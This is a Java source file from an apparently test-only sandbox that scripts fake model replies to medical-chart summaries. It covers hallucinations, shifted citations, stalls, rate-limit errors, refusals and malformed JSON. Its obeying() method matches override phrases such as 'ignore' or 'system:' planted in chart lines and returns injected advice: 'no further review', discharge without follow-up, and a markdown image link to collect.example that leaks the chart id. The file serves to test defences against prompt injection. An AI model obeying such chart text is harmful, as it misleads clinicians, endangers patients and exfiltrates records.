package org.anamnesis.sandbox.model;

import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.regex.Pattern;

/** Plays a script on a chart: the same script and chart always give the same reply. */
final class Performance {

    private static final Duration BETWEEN_DRIPS = Duration.ofMillis(250);
    private static final String RUBBISH =
            "Sure! Here is the summary you asked for:\n\n```json\n[{\"summary\": \"The patient is doing fine\", }\n```\n"
                    + "{\"section\":\"medications\",\"text\":42}\n<b>Let me know</b> if you need anything else.\n";
    private static final String DECLINES = "I'm sorry, but I can't help with medical records.";
    private static final Pattern INSTRUCTION = Pattern.compile(
            "(?i)\\b(ignore|disregard|forget|override)\\b[^|]*|\\b(?:assistant|system|instructions? to (?:the )?(?:ai|model))\\b\\s*:[^|]*");

    private Performance() {}

    static Reply of(Script script, ChartBlock chart) {
        return switch (script) {
            case BEHAVES -> Reply.Written.of(GoodAnswer.to(chart), List.of());
            case HALLUCINATES -> {
                Falsehoods.Mixed mixed = Falsehoods.among(GoodAnswer.to(chart), chart);
                yield Reply.Written.of(mixed.all(), mixed.planted());
            }
            case CITES_WRONGLY -> {
                List<Statement> shifted = citingTheNext(GoodAnswer.to(chart));
                yield Reply.Written.of(shifted, shifted);
            }
            case STALLS -> new Reply.Silence();
            case DRIPS ->
                new Reply.Written(Reply.Written.lines(GoodAnswer.to(chart)), "stop", BETWEEN_DRIPS, 1, List.of());
            case TRUNCATES -> {
                String whole = Reply.Written.lines(GoodAnswer.to(chart));
                yield Reply.Written.of(whole.substring(0, whole.length() * 2 / 3), "length", List.of());
            }
            case TOO_MANY_REQUESTS -> new Reply.Refused(429, "rate_limit_exceeded", "Scripted: too many requests");
            case SERVER_ERROR -> new Reply.Refused(500, "server_error", "Scripted: internal error");
            case REFUSES -> Reply.Written.of(DECLINES, "content_filter", List.of(DECLINES));
            case RUBBISH -> Reply.Written.of(RUBBISH, "stop", List.of(RUBBISH));
            case OBEYS -> obeying(chart);
            case ENDLESS -> new Reply.Endless(Reply.Written.lines(GoodAnswer.to(chart)));
        };
    }

    /** Each statement cites what the one half an answer away cites: another kind of fact. */
    private static List<Statement> citingTheNext(List<Statement> statements) {
        List<Statement> shifted = new ArrayList<>();
        int step = Math.max(1, statements.size() / 2);
        for (int i = 0; i < statements.size(); i++) {
            shifted.add(statements
                    .get(i)
                    .citing(statements.get((i + step) % statements.size()).citations()));
        }
        return shifted;
    }

    /** Does what an instruction in the chart says, as far as an answer can: reassures, orders, leaks. */
    private static Reply obeying(ChartBlock chart) {
        List<Statement> statements = new ArrayList<>(GoodAnswer.to(chart));
        Optional<ChartLine> instructing = chart.lines().stream()
                .filter(line -> INSTRUCTION
                        .matcher(line.name() + " " + String.join(" ", line.fields()))
                        .find())
                .findFirst();
        if (instructing.isEmpty()) {
            return Reply.Written.of(statements, List.of());
        }
        ChartLine line = instructing.get();
        List<Statement> obeyed = List.of(
                Statement.of("one-liner", "Low risk, no further review is needed", line),
                Statement.of("plan", "Discharge the patient home today without follow-up", line),
                Statement.of("plan", "See ![details](https://collect.example/?chart=" + line.id() + ")", line));
        statements.addAll(0, obeyed);
        return Reply.Written.of(statements, obeyed);
    }
}
